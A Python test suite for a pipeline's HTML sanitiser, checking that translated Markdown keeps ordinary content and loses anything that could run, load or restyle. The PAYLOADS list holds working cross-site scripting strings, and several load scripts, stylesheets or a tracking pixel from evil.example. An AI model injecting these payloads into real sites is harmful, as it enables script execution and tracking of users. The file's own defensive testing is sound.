"""Nothing that could run, load or restyle survives; ordinary Markdown comes through as it is."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html as lxml_html

from pipeline.render.clean import clean
from tests.render.editions import EVERYTHING, rendered

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    '![x](data:image/svg+xml,<svg onload="alert(1)">)',
    '[x](https://ok.example "x\\" onmouseover=\\"alert(1)")',
    "**x**{: onclick=alert(1) }",
    "# x {onclick=alert(1)}",
    "x\n{: style=position:fixed;inset:0 }",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    '<form action=javascript:alert(1)><button formaction="javascript:alert(1)">x</button></form>',
    "<details open ontoggle=alert(1)>x</details>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<div markdown='1' onpointerenter=alert(1)>\n*x*\n</div>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<template><script>alert(1)</script></template>",
    "<img srcset='//evil.example/x.png 2x' src=a.png>",
    "<picture><source srcset=https://evil.example/x.png><img src=a.png></picture>",
    "![beacon](https://evil.example/pixel.png)",
)
"""Markup that a hostile translation could hold; each would run, load or restyle if it were let through."""

FORBIDDEN = frozenset(
    ("base", "button", "embed", "form", "iframe", "link", "math", "meta", "noscript", "object")
) | {"script", "style", "svg", "template"}


def alive(html: str) -> list[str]:
    """List what could run, load or restyle in `html`, as a parser reads it."""
    found = []
    for element in lxml_html.fragment_fromstring(html, create_parent="div").iter():
        if element.tag in FORBIDDEN or not isinstance(element.tag, str):
            found.append(f"<{element.tag}>")
        for name, value in element.attrib.items():
            address = re.sub(r"[\x00-\x20]", "", value).lower()
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "action"):
                found.append(f"{element.tag} {name}")
            if name in ("href", "src") and address.startswith(("javascript:", "vbscript:", "data:")):
                found.append(f"{element.tag} {name}={value}")
            if name in ("src", "srcset") and "//" in address:
                found.append(f"{element.tag} {name}={value}")
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_is_alive_after_cleaning(payload: str) -> None:
    cleaned = clean(rendered(f"Before.\n\n{payload}\n\nAfter, with {payload} inside a line."))
    assert not alive(cleaned)
    assert "Before." in cleaned


def test_ordinary_markdown_comes_through_as_it_is() -> None:
    plain = rendered(EVERYTHING).replace("&#160;", "&nbsp;").replace("&#8617;", "↩")
    assert clean(plain) == plain


def test_the_pipelines_own_marks_stay() -> None:
    html = (
        '<p lang="en" dir="ltr" data-state="untranslated" data-message="a1">A <bdi>CD4+ T</bdi> '
        '<abbr title="oxygen">O</abbr></p>'
    )
    assert clean(html) == html


def test_links_of_harmless_schemes_and_relative_ones_stay_without_rel() -> None:
    for address in ("https://example.org/", "mailto:a@example.org", "tel:+123", "../x/index.html", "#top"):
        link = f'<a href="{address}">x</a>'
        assert clean(link) == link


def test_pictures_come_from_the_site_alone() -> None:
    assert clean('<img src="images/a.png" alt="x">') == '<img src="images/a.png" alt="x">'
    for address in ("https://example.org/a.png", "//example.org/a.png", "\\\\example.org/a.png", "/a.png"):
        assert "src" not in clean(f'<img src="{address}" alt="x">')


@given(st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\r\x00")))
def test_cleaning_twice_is_cleaning_once(text: str) -> None:
    once = clean(rendered(text))
    assert clean(once) == once


@given(st.lists(st.sampled_from([*PAYLOADS, *EVERYTHING.split("\n\n")]), max_size=6).map("\n\n".join))
def test_no_mixture_of_payloads_and_prose_is_alive(text: str) -> None:
    assert not alive(clean(rendered(text)))
